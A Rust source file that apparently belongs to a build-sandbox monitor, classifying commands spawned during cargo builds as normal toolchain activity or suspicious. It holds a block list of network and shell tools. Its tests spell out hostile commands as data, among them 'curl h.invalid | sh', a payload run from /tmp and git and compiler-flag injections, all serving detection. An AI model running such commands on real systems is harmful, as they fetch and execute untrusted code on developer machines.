//! The built-in model of normal build activity: what build scripts of well-known crates (cc,
//! cmake, bindgen and clang-sys, openssl-src, aws-lc-sys, ring, libsqlite3-sys) and rustc
//! itself run. Compilers, assemblers, linkers and archivers, pkg-config, cmake, make, ninja and
//! autotools, rustc probes (autocfg, version_check, rustversion), `git` reading metadata, and
//! the scripts a crate ships run by their interpreter. Recognised by the executable the kernel
//! ran (its resolved path, never `argv[0]`) and by who started it, with its arguments checked:
//! a compiler asked to load a plugin or a linker from `/tmp` is not normal.
//!
//! Everything else is judged by intent: a download tool, a detached process, a shell told to
//! run a command line, an interpreter running a file the build wrote or fetched, or any
//! program living in a temporary directory or written by the build is high.

use crate::finding::Severity;
use reflex_sandbox_contract::ChainLink;

/// What an exec is.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum ExecVerdict {
    /// Normal build activity of this kind ("compiler", "linker", "rustc probe", ...): counted,
    /// recorded in the event log, not alerted.
    Normal(&'static str),
    /// Worth a person's minute.
    Alert { severity: Severity, reason: String },
}

const COMPILERS: &[&str] = &[
    "cc",
    "c++",
    "gcc",
    "g++",
    "clang",
    "clang++",
    "cpp",
    "cc1",
    "cc1plus",
    "cc1obj",
    "collect2",
    "lto1",
    "lto-wrapper",
    "as",
    "nasm",
    "yasm",
    "rustc",
    "rustdoc",
];
const LINKERS: &[&str] = &[
    "ld", "ld.bfd", "ld.gold", "ld.lld", "lld", "mold", "rust-lld", "ld64.lld",
];
const BINUTILS: &[&str] = &[
    "ar",
    "ranlib",
    "strip",
    "nm",
    "objcopy",
    "objdump",
    "readelf",
    "llvm-ar",
    "llvm-ranlib",
    "llvm-config",
    "llvm-nm",
    "llvm-objcopy",
    "windres",
];
const BUILD_SYSTEMS: &[&str] = &[
    "make",
    "gmake",
    "cmake",
    "ninja",
    "meson",
    "scons",
    "autoconf",
    "autoreconf",
    "automake",
    "aclocal",
    "autoheader",
    "libtool",
    "libtoolize",
    "m4",
    "bison",
    "yacc",
    "flex",
    "protoc",
    "pkg-config",
    "pkgconf",
    "x86_64-linux-gnu-pkg-config",
];
/// Small tools that make recipes and configure scripts run.
const UTILITIES: &[&str] = &[
    "sed", "grep", "egrep", "fgrep", "awk", "gawk", "mawk", "mkdir", "cp", "mv", "rm", "cat",
    "echo", "test", "[", "expr", "tr", "uname", "sort", "uniq", "ln", "chmod", "touch", "dirname",
    "basename", "head", "tail", "wc", "find", "xargs", "env", "true", "false", "printf", "install",
    "cmp", "diff", "cut", "date", "hostname", "ls", "pwd", "rmdir", "realpath", "readlink",
    "mktemp", "od", "getconf", "nproc", "which", "file", "tee",
];
const NETWORK_TOOLS: &[&str] = &[
    "curl", "wget", "nc", "ncat", "netcat", "socat", "ssh", "scp", "sftp", "ftp", "tftp", "telnet",
    "dig", "nslookup", "host", "rsync", "aria2c", "openssl",
];
const DETACHERS: &[&str] = &[
    "nohup",
    "setsid",
    "daemon",
    "daemonize",
    "start-stop-daemon",
    "at",
    "batch",
    "crontab",
    "systemd-run",
    "screen",
    "tmux",
    "disown",
];
const SHELLS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "mksh", "busybox", "fish",
];
const INTERPRETERS: &[&str] = &[
    "python", "python2", "python3", "perl", "ruby", "node", "nodejs", "php", "lua", "tclsh",
    "pwsh", "deno", "bun",
];
/// `git` subcommands that only read the repository.
const GIT_READS: &[&str] = &[
    "rev-parse",
    "describe",
    "status",
    "log",
    "show",
    "ls-files",
    "diff",
    "rev-list",
    "symbolic-ref",
    "cat-file",
    "for-each-ref",
    "name-rev",
    "ls-tree",
    "merge-base",
    "version",
    "--version",
];

/// The tool name behind an executable's file name: `x86_64-linux-gnu-gcc-12` is `gcc`,
/// `ld.lld-18` is `ld.lld`, `python3.11` is `python3`.
pub fn tool(exe: &str) -> String {
    let base = exe.rsplit('/').next().unwrap_or(exe);
    let mut name = base.to_string();
    // A target prefix (`x86_64-linux-gnu-`, `aarch64-unknown-linux-musl-`).
    for known in COMPILERS
        .iter()
        .chain(LINKERS)
        .chain(BINUTILS)
        .chain(BUILD_SYSTEMS)
    {
        if let Some(prefix) = name.strip_suffix(known)
            && prefix.ends_with('-')
            && prefix.matches('-').count() >= 2
        {
            name = known.to_string();
            break;
        }
        let versioned = name.strip_prefix(known).is_some_and(|rest| {
            rest.starts_with('-') && rest[1..].chars().all(|c| c.is_ascii_digit() || c == '.')
        });
        if versioned {
            name = known.to_string();
            break;
        }
        if let Some(prefix) = name.find(&format!("-{known}-"))
            && name[prefix + known.len() + 2..]
                .chars()
                .all(|c| c.is_ascii_digit() || c == '.')
        {
            name = known.to_string();
            break;
        }
    }
    // `python3.11`, `perl5.36.0`: the longest interpreter name it starts with.
    INTERPRETERS
        .iter()
        .filter(|i| {
            name.starts_with(**i)
                && name[i.len()..]
                    .chars()
                    .all(|c| c.is_ascii_digit() || c == '.')
        })
        .max_by_key(|i| i.len())
        .map_or(name.clone(), |i| i.to_string())
}

/// Where programs of the system and of the toolchain live.
fn installed(exe: &str) -> bool {
    ["/usr/", "/bin/", "/sbin/", "/lib/", "/lib64/", "/opt/"]
        .iter()
        .any(|p| exe.starts_with(p))
        || exe.contains("/.rustup/toolchains/")
        || exe.contains("/rustup/toolchains/")
        || exe.contains("/.cargo/bin/")
}

/// Directories whose files the build wrote or fetched, or anyone could have.
fn temporary(path: &str) -> bool {
    ["/tmp/", "/var/tmp/", "/dev/shm/", "/run/"]
        .iter()
        .any(|p| path.starts_with(p))
}

/// A script shipped in a crate's sources (cargo's registry or git checkouts) or copied into
/// its build directory.
fn shipped(path: &str) -> bool {
    path.contains("/registry/src/") || path.contains("/git/checkouts/")
}

/// Compiler arguments that make it run something else: a plugin, a wrapper, tools from
/// another directory, a spec file.
fn odd_compiler_arg(arg: &str) -> Option<String> {
    let a = arg.trim();
    if a == "-wrapper" || a.starts_with("-fplugin") || a.starts_with("-specs=") {
        return Some(format!("`{a}` makes the compiler run other code"));
    }
    if let Some(dir) = a.strip_prefix("-B")
        && !dir.is_empty()
        && (temporary(dir) || !installed(&format!("{}/", dir.trim_end_matches('/'))))
        && !dir.contains("/target/")
    {
        return Some(format!(
            "`{a}` points the compiler at tools outside the system"
        ));
    }
    None
}

/// Judges one exec: `exe` the resolved executable the kernel runs, `argv` its arguments,
/// `chain` the caller and its ancestors (nearest first; the caller is the process about to
/// exec), `by_rustc` whether the nearest build-time actor is rustc itself (its linker) rather
/// than a build script or a proc-macro, `target` the build's target directory.
pub fn judge_exec(
    exe: &str,
    argv: &[String],
    chain: &[ChainLink],
    by_rustc: bool,
    target: Option<&std::path::Path>,
) -> ExecVerdict {
    let t = tool(exe);
    let written = |p: &str| target.is_some_and(|t| std::path::Path::new(p).starts_with(t));
    let under_build_system = under_build_system(chain);
    if temporary(exe) {
        return high(format!(
            "runs {exe}, a file in a temporary directory (written or downloaded by the build)"
        ));
    }
    if NETWORK_TOOLS.contains(&t.as_str()) {
        return high(format!(
            "runs {t}, a download or network tool (an offline build needs none)"
        ));
    }
    if DETACHERS.contains(&t.as_str()) {
        return high(format!(
            "runs {t}: a detached or re-sessioned process outlives the build step"
        ));
    }
    if SHELLS.contains(&t.as_str()) || INTERPRETERS.contains(&t.as_str()) {
        return script_verdict(&t, argv, under_build_system, &written);
    }
    if written(exe) {
        return if under_build_system {
            ExecVerdict::Normal("build system test program")
        } else {
            ExecVerdict::Alert {
                severity: Severity::Medium,
                reason: format!("runs {exe}, a program the build itself produced"),
            }
        };
    }
    if !installed(exe) {
        return high(format!(
            "runs {exe}, a program outside the system and the toolchain"
        ));
    }
    if COMPILERS.contains(&t.as_str()) || LINKERS.contains(&t.as_str()) {
        if let Some(why) = argv.iter().skip(1).find_map(|a| odd_compiler_arg(a)) {
            return high(why);
        }
        return ExecVerdict::Normal(match t.as_str() {
            "rustc" | "rustdoc" if !by_rustc => "rustc probe",
            _ if LINKERS.contains(&t.as_str()) || t == "collect2" => "linker",
            _ => "compiler",
        });
    }
    if BINUTILS.contains(&t.as_str()) {
        return ExecVerdict::Normal("archiver");
    }
    if BUILD_SYSTEMS.contains(&t.as_str()) {
        return ExecVerdict::Normal("build system");
    }
    if t == "git" {
        return git_verdict(argv);
    }
    if UTILITIES.contains(&t.as_str()) {
        return if under_build_system {
            ExecVerdict::Normal("build recipe")
        } else {
            ExecVerdict::Alert {
                severity: Severity::Low,
                reason: format!("runs {t}"),
            }
        };
    }
    ExecVerdict::Alert {
        severity: if under_build_system {
            Severity::Low
        } else {
            Severity::Medium
        },
        reason: format!("runs {exe}, a program no build step is known to need"),
    }
}

/// Whether a build system runs anywhere up the chain (it runs its own recipes and test
/// programs).
fn under_build_system(chain: &[ChainLink]) -> bool {
    chain.iter().any(|l| {
        l.exe.as_deref().is_some_and(|e| {
            matches!(
                tool(e).as_str(),
                "make" | "gmake" | "cmake" | "ninja" | "meson" | "scons"
            )
        }) || l
            .argv
            .first()
            .is_some_and(|a| a.ends_with("/configure") || a == "./configure")
    })
}

fn high(reason: String) -> ExecVerdict {
    ExecVerdict::Alert {
        severity: Severity::High,
        reason,
    }
}

/// A shell or an interpreter `t`: what it runs (a command line, a script and where it lies).
/// `written`: whether a path lies in the target directory.
fn script_verdict(
    t: &str,
    argv: &[String],
    under_build_system: bool,
    written: &dyn Fn(&str) -> bool,
) -> ExecVerdict {
    let command_line = argv
        .iter()
        .skip(1)
        .any(|a| a == "-c" || a == "-e" || a == "-E");
    let script = argv
        .iter()
        .skip(1)
        .find(|a| !a.starts_with('-'))
        .map(String::as_str);
    if under_build_system && !script.is_some_and(temporary) {
        return ExecVerdict::Normal("build recipe");
    }
    if command_line {
        return high(format!(
            "{t} runs a command line it was given (`{}`)",
            argv.join(" ")
        ));
    }
    match script {
        Some(s) if temporary(s) => high(format!("{t} runs {s}, a file in a temporary directory")),
        Some(s) if shipped(s) => ExecVerdict::Normal("script shipped with the crate"),
        // A copy of the crate's own sources (openssl-src runs `perl ./Configure` in its
        // build directory), or a payload it wrote there: said, at low severity.
        Some(s) if !s.starts_with('/') || written(s) => ExecVerdict::Alert {
            severity: Severity::Low,
            reason: format!("{t} runs {s}, a script in the build's own directory"),
        },
        Some(s) => ExecVerdict::Alert {
            severity: Severity::Medium,
            reason: format!("{t} runs {s}"),
        },
        None => high(format!("{t} reads its commands from its input")),
    }
}

/// git: reading metadata is normal; configuring it or anything else is not.
fn git_verdict(argv: &[String]) -> ExecVerdict {
    let sub = argv
        .iter()
        .skip(1)
        .find(|a| !a.starts_with('-') || *a == "--version")
        .map(String::as_str);
    let configures = argv.iter().any(|a| {
        a == "-c"
            || a.starts_with("--config")
            || a.starts_with("--upload-pack")
            || a.starts_with("--exec")
    });
    match sub {
        Some(s) if GIT_READS.contains(&s) && !configures => ExecVerdict::Normal("git metadata"),
        Some("config")
            if argv
                .iter()
                .any(|a| a == "--get" || a == "--get-all" || a == "-l" || a == "--list")
                && !configures =>
        {
            ExecVerdict::Normal("git metadata")
        }
        _ => high(format!(
            "git {} (more than reading metadata)",
            argv.iter().skip(1).cloned().collect::<Vec<_>>().join(" ")
        )),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn argv(a: &[&str]) -> Vec<String> {
        a.iter().map(|s| s.to_string()).collect()
    }

    fn link(exe: &str, args: &[&str]) -> ChainLink {
        ChainLink {
            pid: 1,
            exe: Some(exe.into()),
            argv: argv(args),
        }
    }

    #[test]
    fn tool_names_lose_targets_and_versions() {
        assert_eq!(tool("/usr/bin/x86_64-linux-gnu-gcc-12"), "gcc");
        assert_eq!(tool("/usr/bin/ld.lld-18"), "ld.lld");
        assert_eq!(tool("/usr/bin/clang-14"), "clang");
        assert_eq!(tool("/usr/bin/python3.11"), "python3");
        assert_eq!(tool("/usr/lib/gcc/x86_64-linux-gnu/12/cc1"), "cc1");
        assert_eq!(tool("/usr/bin/x86_64-linux-gnu-ar"), "ar");
        assert_eq!(tool("/usr/bin/curl"), "curl");
    }

    #[test]
    fn compilers_probes_and_build_systems_are_normal() {
        let script = link(
            "/w/target/debug/build/zlib-1a/build-script-build",
            &["build-script-build"],
        );
        let normal = |exe: &str, a: &[&str]| {
            judge_exec(
                exe,
                &argv(a),
                std::slice::from_ref(&script),
                false,
                Some(std::path::Path::new("/w/target")),
            )
        };
        assert_eq!(
            normal(
                "/usr/bin/x86_64-linux-gnu-gcc-12",
                &["cc", "-O2", "-c", "zlib.c"]
            ),
            ExecVerdict::Normal("compiler")
        );
        assert_eq!(
            normal("/usr/bin/x86_64-linux-gnu-ar", &["ar", "cq", "libz.a"]),
            ExecVerdict::Normal("archiver")
        );
        assert_eq!(
            normal("/usr/bin/pkg-config", &["pkg-config", "--libs", "zlib"]),
            ExecVerdict::Normal("build system")
        );
        assert_eq!(
            normal(
                "/root/.rustup/toolchains/stable/bin/rustc",
                &["rustc", "--version"]
            ),
            ExecVerdict::Normal("rustc probe")
        );
        assert_eq!(
            normal("/usr/bin/git", &["git", "rev-parse", "HEAD"]),
            ExecVerdict::Normal("git metadata")
        );
        assert_eq!(
            normal(
                "/usr/bin/perl",
                &[
                    "perl",
                    "/h/.cargo/registry/src/idx/openssl-src-300/openssl/Configure"
                ]
            ),
            ExecVerdict::Normal("script shipped with the crate")
        );
        // Make's recipes run through sh -c.
        let make = [link("/usr/bin/make", &["make", "-j2"]), script.clone()];
        assert_eq!(
            judge_exec(
                "/usr/bin/dash",
                &argv(&["sh", "-c", "cc -c a.c"]),
                &make,
                false,
                None
            ),
            ExecVerdict::Normal("build recipe")
        );
    }

    #[test]
    fn intent_decides_what_is_high() {
        let script = link(
            "/w/target/debug/build/evil-1a/build-script-build",
            &["build-script-build"],
        );
        let judge = |exe: &str, a: &[&str]| {
            judge_exec(
                exe,
                &argv(a),
                std::slice::from_ref(&script),
                false,
                Some(std::path::Path::new("/w/target")),
            )
        };
        let is_high = |v: ExecVerdict| {
            matches!(
                v,
                ExecVerdict::Alert {
                    severity: Severity::High,
                    ..
                }
            )
        };
        assert!(is_high(judge(
            "/usr/bin/curl",
            &["curl", "-o", "/tmp/x", "http://h.invalid/x"]
        )));
        assert!(is_high(judge(
            "/usr/bin/dash",
            &["sh", "-c", "curl h.invalid | sh"]
        )));
        assert!(is_high(judge(
            "/usr/bin/python3.11",
            &["python3", "/tmp/payload.py"]
        )));
        assert!(is_high(judge("/tmp/payload", &["payload"])));
        assert!(is_high(judge("/usr/bin/nohup", &["nohup", "./agent"])));
        assert!(is_high(judge(
            "/usr/bin/setsid",
            &["setsid", "-f", "./agent"]
        )));
        assert!(is_high(judge(
            "/usr/bin/git",
            &["git", "clone", "https://h.invalid/x"]
        )));
        assert!(is_high(judge(
            "/usr/bin/git",
            &["git", "-c", "core.sshCommand=sh", "rev-parse"]
        )));
        assert!(is_high(judge(
            "/usr/bin/x86_64-linux-gnu-gcc-12",
            &["cc", "-fplugin=/w/p.so", "a.c"]
        )));
        assert!(is_high(judge(
            "/usr/bin/x86_64-linux-gnu-gcc-12",
            &["cc", "-B/tmp/evil", "a.c"]
        )));
        assert!(is_high(judge("/home/u/.local/bin/helper", &["helper"])));
        // argv[0] says cc; the executable is a shell reading a command line.
        assert!(is_high(judge("/usr/bin/bash", &["cc", "-c", "id"])));
    }
}
